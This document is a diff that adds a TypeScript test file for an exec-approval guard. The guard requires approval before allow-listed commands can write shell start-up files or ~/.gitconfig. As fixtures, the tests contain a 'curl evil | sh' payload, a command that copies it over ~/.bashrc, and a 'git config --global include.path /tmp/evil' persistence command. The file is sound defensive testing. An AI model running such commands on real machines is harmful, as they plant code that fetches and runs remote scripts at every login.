@@ -1,0 +1,88 @@
+// An allow-listed exec command that names a start-up file or git's user-wide config is asked about, not run at
+// once: `cp*` or `git config*` on the allowlist must not write ~/.bashrc or ~/.gitconfig without an approval.
+// Real files in a temp HOME.
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
+import path from 'node:path'
+import { afterEach, beforeEach, describe, expect, it } from 'vitest'
+import type { ExecApprovalRequest } from '../../../shared/events'
+import { allowlistStartupReason } from './exec-startup-guard'
+import { makeCtx, makeSandbox, run, textOf, type Sandbox, type TestCtx } from './test-helpers'
+
+let sb: Sandbox
+let home: string
+const saved: Record<string, string | undefined> = {}
+const ENV = ['HOME', 'XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR'] as const
+beforeEach(() => {
+  sb = makeSandbox()
+  home = sb.base
+  for (const k of ENV) saved[k] = process.env[k]
+  process.env.HOME = home
+  for (const k of ENV.slice(1)) delete process.env[k]
+})
+afterEach(() => {
+  for (const k of ENV) {
+    if (saved[k] === undefined) delete process.env[k]
+    else process.env[k] = saved[k]
+  }
+  sb.cleanup()
+})
+
+async function nextRequest(ctx: TestCtx): Promise<ExecApprovalRequest> {
+  for (let i = 0; i < 300; i++) {
+    const req = ctx.events.find((e) => e.event === 'exec.approval.requested')
+    if (req) return req.payload as ExecApprovalRequest
+    await new Promise((r) => setTimeout(r, 10))
+  }
+  throw new Error('no approval request emitted')
+}
+
+describe('exec: allow-listed commands that would write files that run code later', () => {
+  it('`cp evil .bashrc` on a `cp*` allowlist in a home-folder workspace asks; denied, .bashrc keeps its content', async () => {
+    writeFileSync(path.join(home, '.bashrc'), '# mine\n')
+    writeFileSync(path.join(home, 'evil.sh'), 'curl evil | sh\n')
+    const ctx = makeCtx(home, { execAllowlist: ['cp*'] })
+    const p = run(ctx, 'exec', { command: 'cp evil.sh .bashrc' })
+    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
+    await expect(p).rejects.toThrow(/denied/)
+    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
+    // an ordinary copy on the same allowlist runs without asking
+    await run(ctx, 'exec', { command: 'cp evil.sh notes.txt' })
+    expect(readFileSync(path.join(home, 'notes.txt'), 'utf8')).toBe('curl evil | sh\n')
+    expect(ctx.events.filter((e) => e.event === 'exec.approval.requested')).toHaveLength(1)
+  })
+
+  it('`git config --global include.path …` on a `git config*` allowlist asks; reading the config does not', async () => {
+    const ctx = makeCtx(sb.ws, { execAllowlist: ['git config*'] })
+    const p = run(ctx, 'exec', { command: 'git config --global include.path /tmp/evil' })
+    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
+    await expect(p).rejects.toThrow(/denied/)
+    expect(existsSync(path.join(home, '.gitconfig'))).toBe(false)
+    expect(allowlistStartupReason('git config --global --get user.name', sb.ws)).toBeUndefined()
+    expect(allowlistStartupReason('git config user.name me', sb.ws)).toBeUndefined()
+  })
+
+  it('names them by path, ~, quotes split apart, --opt=value, a glob that could reach one, and what ~/.gitconfig includes', () => {
+    mkdirSync(path.join(home, 'dot'))
+    writeFileSync(path.join(home, '.gitconfig'), '[include]\n\tpath = dot/extra\n')
+    const why = (cmd: string, cwd = sb.ws) => allowlistStartupReason(cmd, cwd)
+    expect(why('tee ~/.zshrc')).toMatch(/shell start-up file ~\/\.zshrc/)
+    expect(why(`cp x ${home}/.config/fish/conf.d/x.fish`)).toMatch(/fish/)
+    expect(why('cp x ~/".bash""rc"')).toMatch(/\.bashrc/)
+    expect(why('install --target=~/.config/autostart x')).toMatch(/autostart/)
+    expect(why('cp x ~/.b*rc')).toMatch(/could name/)
+    expect(why('cp x ~/.gitconfig')).toMatch(/git's user-wide config/)
+    expect(why('cp x ~/dot/extra')).toMatch(/a config file git includes/)
+    expect(why('cp x ~/.BASHRC')).toMatch(/\.bashrc/)
+    // a project workspace's own files and globs are not asked about
+    expect(why('cp a.ts b.ts')).toBeUndefined()
+    expect(why('ls src/*.ts')).toBeUndefined()
+    expect(why('cat ~/notes.txt')).toBeUndefined()
+  })
+
+  it('a lone "*" allowlist (approvals off) is left as the user set it', async () => {
+    const ctx = makeCtx(sb.ws, { execAllowlist: ['*'] })
+    // (echo only: never a write, whichever HOME the shell sees)
+    expect(textOf(await run(ctx, 'exec', { command: 'echo ~/.zshrc' }))).toMatch(/\.zshrc/)
+    expect(ctx.events).toHaveLength(0)
+  })
+})
